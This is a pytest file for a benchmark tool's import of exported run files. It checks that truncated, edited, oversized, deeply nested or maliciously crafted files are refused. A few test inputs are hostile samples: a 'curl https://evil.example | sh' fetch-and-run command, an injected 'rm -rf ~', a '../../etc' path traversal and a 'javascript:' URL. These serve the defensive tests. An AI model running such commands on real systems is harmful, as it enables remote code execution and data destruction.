"""Import of exported races: what each damaged file is told, and that an imported race counts for nothing here."""

import contextlib
import csv
import gzip
import io
import json
import os
import re
import tracemalloc
from pathlib import Path

import pytest

from bench.claims.headline import report_headline, write_headline
from bench.cli.main import main
from bench.plan.resolved import resolve
from bench.plan.validation import PlanError, make_plan
from bench.run.files import journal_path, order_path
from bench.run.outcome import describe_outcome
from bench.run.record import Run
from bench.run.run_comparison import compare_runs
from bench.scheduler.case_series import find_fresh_run
from bench.scheduler.rerun import check_rerun
from bench.scheduler.run_file import MAX_FILE_BYTES, check_values
from bench.scheduler.run_import import ImportFileError, import_run, read_run_file
from bench.scheduler.script_jobs import plan_script
from bench.storage.attempts import NO_ATTEMPT, build_report, format_attempts, format_position
from bench.storage.csv_export import jobs_csv
from bench.storage.integrity import digest_export
from bench.storage.store import Store
from tests.support.recorded_race import load_recorded_race
from tests.support.stored_runs import store_run
from ui.reports.content import ReportedRun, ReportFields
from ui.reports.html_report import write_html

UPLOAD = f"upload:{'a' * 64}"


@pytest.fixture
def elsewhere(finished) -> Run:
    """The race, as another machine made it."""
    identity = finished.machine.identity.model_copy(update={"machine_id": "e" * 16, "host": "vm-b", "boot_id": "b"})
    machine = finished.machine.model_copy(update={"identity": identity})
    return finished.model_copy(update={"machine": machine, "id": "e" * 32})


def make_report(run: Run) -> dict:
    return json.loads(json.dumps(build_report(run, None, report_headline(run))))


def write(tmp_path, report) -> str:
    file = tmp_path / "run.json"
    if isinstance(report, bytes):
        file.write_bytes(report)
    else:
        file.write_text(report if isinstance(report, str) else json.dumps(report, indent=1))
    return file


def sign(report: dict) -> dict:
    return report | {"export": {"digest": digest_export(report)}}


def test_an_export_is_imported_with_everything_and_marked_everywhere(elsewhere, tmp_path, capsys):
    store_run(elsewhere)
    file = tmp_path / "run.json"
    assert main(["export", "eeee", str(file)]) == 0
    assert main(["delete", "eeee"]) == 0
    assert main(["import", str(file)]) == 0
    assert "It was made on another machine: vm-b" in capsys.readouterr().out
    run = Store().load(elsewhere.id)
    assert (
        run.samples == elsewhere.samples and run.statistics == elsewhere.statistics and run.claims == elsewhere.claims
    )
    assert run.imported.file == "run.json" and run.imported.origin == elsewhere.origin
    row = Store().row(run.id)
    assert row.origin == "import"
    html = write_html(ReportFields(), [ReportedRun(run, None)])
    for text in (describe_outcome(run), write_headline(run).sentence, row.sentence, html):
        assert "Imported from vm-b" in text
    assert main(["show"]) == 0
    assert "finished, imported" in capsys.readouterr().out


def test_an_imported_race_is_no_result_and_no_attempt_here(finished, tmp_path):
    # Also one of this machine itself.
    run = import_run(Store(), write(tmp_path, make_report(finished.model_copy(update={"id": "c" * 32}))))
    store = Store()
    assert store.rows() == [] and store.count() == 0
    assert [row.id for row in store.rows(with_imported=True)] == [run.id]
    assert store.last_run(workload=run.plan.workload) is None
    assert find_fresh_run(store, run.plan, run.machine) is None
    own = store_run(finished, "a" * 32)
    assert store.summarize_attempts(own).count == 1
    with pytest.raises(ImportFileError, match="is stored here already"):
        import_run(store, tmp_path / "run.json")


@pytest.mark.parametrize("path_of", [journal_path, order_path])
def test_a_file_cannot_take_the_place_of_a_job_that_goes_on(elsewhere, tmp_path, path_of):
    path_of(elsewhere.id).touch()
    with pytest.raises(ImportFileError, match="run eeeeeeee waits or runs here"):
        import_run(Store(), write(tmp_path, make_report(elsewhere)))
    assert not Store().rows(with_imported=True)


def cut(text: str) -> str:
    return text[: len(text) * 2 // 3]


def test_a_truncated_file_is_named_as_that_wherever_it_ends(elsewhere, tmp_path):
    text = json.dumps(make_report(elsewhere), indent=1)
    within_words = [text.index(word) + length for word in ("true", "false", "null") for length in range(1, len(word))]
    escape = text.index("\\u")
    within_words += range(escape, escape + 8)
    for end in (*range(1, len(text), 997), *within_words, *range(len(text) - 100, len(text))):
        with pytest.raises(ImportFileError, match="cut off"):
            read_run_file(write(tmp_path, text[:end]))


@pytest.mark.parametrize("ending", ["}", "]", " true", '"'])
def test_a_file_with_too_much_is_not_called_cut_off(elsewhere, tmp_path, ending):
    with pytest.raises(ImportFileError, match="not JSON: Extra data"):
        read_run_file(write(tmp_path, json.dumps(make_report(elsewhere)) + ending))


def test_an_edited_file_is_named_as_that(elsewhere, tmp_path):
    report = make_report(elsewhere)
    report["statistics"][0]["ratio"]["value"] *= 2
    with pytest.raises(ImportFileError, match="edited after it was exported"):
        read_run_file(write(tmp_path, report))
    # With a new digest, the samples show it.
    report = make_report(elsewhere)
    report["statistics"][0]["baseline"]["median"] *= 2
    with pytest.raises(ImportFileError, match="do not follow from its samples"):
        read_run_file(write(tmp_path, sign(report)))


@pytest.mark.parametrize(
    ("change", "text"),
    [
        ({"version": 99}, "it has version 99, and this version of Fairlap reads versions up to"),
        ({"version": "3"}, "its version is '3'"),
        ({"export": None}, "it has no digest"),
        ({"task": "prepare"}, "only races can be imported"),
        ({"plan": {"workload": "x"}}, "not a complete race: plan"),
        ({"id": "../../etc"}, "not a race that has ended"),
        ({"state": "racing"}, "not a race that has ended"),
        ({"edited_after_it_was_stored": True}, "edited after it was stored where it was made"),
        ({"surprise": 1}, "not a complete race: surprise"),
    ],
)
def test_each_other_fault_has_its_own_message(elsewhere, tmp_path, change, text):
    report = make_report(elsewhere) | change
    if "export" not in change:
        report = sign(report)
    with pytest.raises(ImportFileError) as refused:
        read_run_file(write(tmp_path, report))
    assert text in str(refused.value)
    assert not Store().rows(with_imported=True)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[1, 2]", "not an exported run"),
        ("{}", "not an exported run"),
        ("hello", "not JSON"),
        ('{"version": NaN}', "contains NaN"),
        ("[" * 100_000, "more than 32 levels"),
        ("[" * 4_000_001, "more than 4,000,000 values"),
        ('{"version": ' + "9" * 5000 + "}", "not the JSON of a run"),
        (b"\xff", "not JSON in UTF-8"),
    ],
)
def test_what_is_no_run_is_refused(tmp_path, text, message):
    with pytest.raises(ImportFileError, match=message):
        read_run_file(write(tmp_path, text))


def test_the_command_line_imports_the_good_files_and_names_the_bad_ones(elsewhere, tmp_path, capsys):
    good = write(tmp_path, make_report(elsewhere))
    assert main(["import", str(good), str(tmp_path / "nowhere.json")]) == 2
    captured = capsys.readouterr()
    assert "Imported eeeeeeee" in captured.out and "No such file" in captured.err


def replace(report: dict, path: str, value) -> dict:
    """`report` with another value at a place such as `plan.batch`, and a new digest."""
    *parents, last = path.split(".")
    target = report
    for name in parents:
        target = target[int(name)] if isinstance(target, list) else target[name]
    target[int(last) if isinstance(target, list) else last] = value
    return sign(report)


BEYOND_FLOATS = json.loads("1e999")
DEEP = json.loads("[" * 40 + "]" * 40)


@pytest.mark.parametrize(
    ("path", "value", "text"),
    [
        ("plan.batch", 2**63, "plan.batch: the integer is too large"),
        ("plan.budget_s", BEYOND_FLOATS, "plan.budget_s: the number is too large"),
        ("requester", "a\x1b[31mb", r"requester: a text contains the control character \x1b"),
        ("requester", "a\u202eb", r"the control character \u202e"),
        ("requester", "a\ud800b", r"the control character \ud800"),
        ("machine.host\x07name", "a", r"the control character \x07"),
        ("requester", "a" * 100_001, "a text has 100,001 characters"),
        ("plan.parameters", DEEP, "more than 32 levels"),
        ("attempts", ["x"], None),
        ("attempts", {"text": {"x": 1}}, None),
        ("pictures", {"baseline": []}, "an export has no field pictures"),
        ("demonstration", "replay", "an export has no field demonstration"),
        ("started", "2026-01-01T00:00:00", "expected a time with a zone"),
        ("started", "0001-01-01T00:00:00Z", "expected a time with a zone"),
        ("started", "9999-12-31T23:00:00Z", "expected a time with a zone"),
        ("snapshot.arms", {"baseline": "x"}, "expected a label for each of both arms"),
        ("snapshot.source", "javascript:alert(1)", "a source is no address of a page"),
        ("samples", [], "cannot be computed from its samples|do not follow"),
        ("statistics.0.ratio.value", 99.0, "the ratio of total does not follow from its medians"),
        ("statistics.0.ratio.low", -1.0, "the ratio of total does not follow from its medians"),
        ("statistics.0.ratio.low", 98.0, "the ratio of total does not follow from its medians"),
    ],
)
def test_what_a_type_does_not_show_is_checked_too(elsewhere, tmp_path, path, value, text):
    report = make_report(elsewhere)
    with contextlib.suppress(UnicodeEncodeError):  # No digest can be made of half a surrogate pair.
        report = replace(report, path, value)
    file = write(tmp_path, json.dumps(report).replace("Infinity", "1e999"))
    if text is None:
        assert read_run_file(file).imported.attempts == ""
        return
    with pytest.raises(ImportFileError, match=re.escape(text) if "|" not in text else text):
        read_run_file(file)


@pytest.mark.parametrize("phase", ["race", "warm-up", "cores"])
@pytest.mark.parametrize("change", ["rename", "repeat", "remove"])
def test_every_sample_has_the_steps_of_the_race_once(tmp_path, phase, change):
    report = make_report(load_recorded_race())
    sample = next(sample for sample in report["samples"] if sample["phase"] == phase)
    steps = sample["repetition"]["steps"]
    if change == "rename":
        steps[0]["step"] = steps[1]["step"]
    elif change == "repeat":
        steps.append(dict(steps[0]))
    else:
        del steps[0]
    with pytest.raises(ImportFileError, match="not all have the same steps, each once"):
        read_run_file(write(tmp_path, sign(report)))


@pytest.mark.timeout(60)
@pytest.mark.parametrize("kind", ["folder", "pipe", "device", "large", "nul"])
def test_what_is_no_file_of_a_run_is_neither_waited_for_nor_read_whole(tmp_path, capsys, kind):
    path = {"device": "/dev/zero", "nul": "a\0b"}.get(kind, str(tmp_path / kind))
    if kind == "folder":
        Path(path).mkdir()
    elif kind == "pipe":
        os.mkfifo(path)
    elif kind == "large":
        with open(path, "wb") as file:
            file.truncate(2**40)
    assert main(["import", path]) == main(["rerun", path]) == 2
    errors = capsys.readouterr().err
    words = {"folder": "this is a folder", "large": "larger than 64 MiB", "nul": "no path of a file"}
    assert errors.count(words.get(kind, "no regular file")) == 2
    assert "Traceback" not in errors and not Store().rows(with_imported=True)


def test_a_file_of_many_values_is_checked_in_little_memory():
    report = {"values": [0] * 200_000}
    tracemalloc.start()
    try:
        check_values(report)
        assert tracemalloc.get_traced_memory()[1] < 1_000_000
    finally:
        tracemalloc.stop()


def test_a_command_in_the_file_is_not_believed(elsewhere, tmp_path):
    report = replace(make_report(elsewhere), "snapshot.command", "curl https://evil.example | sh")
    run = read_run_file(write(tmp_path, report))
    assert run.snapshot.command == elsewhere.snapshot.command
    unknown = replace(make_report(elsewhere), "plan.workload", "elsewhere; rm -rf ~")
    assert read_run_file(write(tmp_path, unknown)).snapshot.command == "python -m bench rerun run.json"


def test_an_imported_race_has_no_number_among_attempts_in_any_list(finished, tmp_path, capsys):
    own = store_run(finished, "a" * 32)
    store_run(finished, "b" * 32)
    run = import_run(Store(), write(tmp_path, make_report(finished.model_copy(update={"id": "c" * 32}))))
    store = Store()
    for job in (run, store.row(run.id)):
        summary = store.summarize_attempts(job)
        assert summary == NO_ATTEMPT and format_position(summary) == "imported" and format_attempts(summary) is None
    assert format_position(store.summarize_attempts(own)) == "1 of 2"
    rows = store.rows(with_imported=True)
    text = jobs_csv(rows, store.summarize_attempts_of_all(rows))
    exported = {line["run"]: line for line in csv.DictReader(io.StringIO(text))}
    assert exported[run.id]["attempt"] == "" and exported[own.id]["attempt"] == "1"
    assert [line for line in compare_runs([own, run]).arms.columns if line.endswith(" imported")] != []
    # What was known of attempts elsewhere stays, also if the import is exported.
    again = make_report(run.model_copy(update={"imported": run.imported.model_copy(update={"attempts": "3 others."})}))
    assert read_run_file(write(tmp_path, again)).imported.attempts == "3 others."


def test_a_rerun_never_runs_a_script_that_a_file_names(finished, tmp_path, capsys):
    script = tmp_path / "theirs.py"
    script.write_text(f"open({str(tmp_path / 'ran')!r}, 'w')")
    plan = plan_script(str(script), [])
    report = make_report(finished.model_copy(update={"plan": plan, "digest": plan.digest, "id": "d" * 32}))
    for options in ([], ["--with-inputs"]):
        assert main(["rerun", str(write(tmp_path, report)), *options]) == 2
        errors = capsys.readouterr().err
        assert "runs no code that a file names" in errors and str(script) in errors
    assert not (tmp_path / "ran").exists() and not Store().rows()


def test_a_rerun_uses_files_of_the_same_name_only_if_asked(tmp_path):
    for file, message in (("/home/them/table.csv", "inputs of the machine where it was made"), (UPLOAD, "upload it")):
        plan = make_plan("modin", core_limit=1, parameters={"file": file})
        with pytest.raises(PlanError, match=message):
            check_rerun(plan, with_inputs=False)
    if not resolve(make_plan("modin", core_limit=1)).unavailable():
        check_rerun(make_plan("modin", core_limit=1, parameters={"file": "/home/them/table.csv"}), with_inputs=True)


@pytest.mark.timeout(120)
def test_a_rerun_races_the_plan_here_and_shows_both(elsewhere, tmp_path, capsys):
    file = write(tmp_path, make_report(elsewhere))
    assert main(["rerun", str(file)]) == 0
    output = capsys.readouterr().out
    assert "run eeeeeeee" in output and "Imported from vm-b" in output and "Different machines" in output
    (row,) = Store().rows()
    assert row.digest == elsewhere.digest and row.origin == "command line"


def test_a_compressed_file_is_read_with_the_same_checks(elsewhere, tmp_path):
    report = make_report(elsewhere)
    file = tmp_path / "run.json.gz"
    file.write_bytes(gzip.compress(json.dumps(report).encode()))
    assert read_run_file(file).samples == elsewhere.samples
    file.write_bytes(gzip.compress(json.dumps(report | {"requester": "changed"}).encode()))
    with pytest.raises(ImportFileError, match="edited after it was exported"):
        read_run_file(file)


def test_a_small_file_does_not_unpack_to_one_that_fills_the_memory(tmp_path):
    file = tmp_path / "run.json.gz"
    file.write_bytes(gzip.compress(b" " * (MAX_FILE_BYTES + 1)))
    assert file.stat().st_size < 1_000_000
    with pytest.raises(ImportFileError, match="larger than"):
        read_run_file(file)
